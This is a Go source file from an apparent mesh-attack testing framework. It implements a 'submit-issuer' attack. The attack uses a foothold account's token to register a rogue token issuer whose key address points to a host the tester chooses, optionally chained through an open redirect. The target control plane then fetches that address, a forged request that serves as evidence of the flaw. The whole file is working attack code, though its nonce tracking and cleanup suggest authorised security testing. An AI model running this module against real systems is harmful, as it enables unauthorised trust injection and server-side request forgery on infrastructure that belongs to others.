package attacks

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"

	"github.com/meshbreach/meshbreach/attacker"
)

// SubmitIssuer has the parameters of submit-issuer.
type SubmitIssuer struct {
	Submission
	// Keys is where the issuer's keys are said to be, with blanks as in
	// read-interface. The nonce is added to its query.
	Keys string `json:"keys,omitempty" jsonschema:"required"`
	// By, where it is there, is who leads from there to Keys: an address of
	// somebody's application that redirects to wherever it is told to.
	By string `json:"by,omitempty"`
}

// Lasts says that the object stays until the attempt is stopped: its keys are
// fetched later.
func (p *SubmitIssuer) Lasts() bool { return true }

// Check refuses parameters that say too little.
func (p *SubmitIssuer) Check() error {
	return errors.Join(named("keys", p.Keys, "where the issuer's keys are said to be"), checkBlanks(p.Keys), checkBlanks(p.By), p.Submission.Check())
}

func submitIssuer() attacker.Attack {
	return attacker.New("submit-issuer", "Register a token issuer with a chosen key address",
		`Uses an account's token to ask the platform's API to accept another token issuer
for the account's own workload. The request is an object of the mesh's own kind,
and says where the issuer's keys are. A control plane that fetches the keys
sends a request to that address on the attacker's behalf. The evidence is who
received that request. The object is deleted when the attempt is stopped.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p SubmitIssuer, emit func(attacker.Observation)) error {
			n := nonce()
			path, body, err := p.issuer(n, f, t)
			if err != nil {
				return err
			}
			return p.submit(ctx, f, t, n, apiObject{
				owner: p.owner(), path: path, body: body, stays: true,
				undo: &change{method: http.MethodDelete, path: path + "/" + objectName(n)},
			}, emit)
		})
}

// issuer is one that nobody has, for the workload of the token's owner alone.
func (p *SubmitIssuer) issuer(nonce string, f attacker.Foothold, t attacker.Target) (path string, body any, err error) {
	if t.Authority == nil {
		return "", nil, errors.New("this mesh has no control plane that fetches keys")
	}
	protocol, err := f.Protocol(t.Authority.Protocol)
	if err != nil {
		return "", nil, err
	}
	issuers, ok := protocol.(attacker.TokenIssuerProtocol)
	if !ok {
		return "", nil, fmt.Errorf("this mesh has no object that names the issuer of a workload's tokens (protocol %q)", protocol.Name())
	}
	namespace, err := nameOf(t, p.owner(), "namespace")
	if err != nil {
		return "", nil, err
	}
	workload, err := podName(t, p.owner())
	if err != nil {
		return "", nil, err
	}
	keys, err := p.address(nonce, t)
	if err != nil {
		return "", nil, err
	}
	name := objectName(nonce)
	path, body = issuers.IssuerObject(attacker.TokenIssuer{Name: name, Namespace: namespace, Workload: workload, Issuer: name + ".meshbreach.test", Keys: keys})
	return path, body, nil
}

// address is where the keys are said to be. Whoever fetches them can be made to
// send no header, so that the nonce travels in the query.
func (p *SubmitIssuer) address(nonce string, t attacker.Target) (string, error) {
	first, err := queried(p.Keys, t, url.Values{"nonce": {nonce}})
	if err != nil || p.By == "" {
		return first, err
	}
	return queried(p.By, t, url.Values{"nonce": {nonce}, "to": {first}})
}

// queried is an address of the range with values in its query.
func queried(address string, t attacker.Target, values url.Values) (string, error) {
	filled, err := fill(address, t)
	if err != nil {
		return "", err
	}
	u, err := url.Parse(filled)
	if err != nil {
		return "", fmt.Errorf("where the keys are: %w", err)
	}
	u.RawQuery = values.Encode()
	return u.String(), nil
}
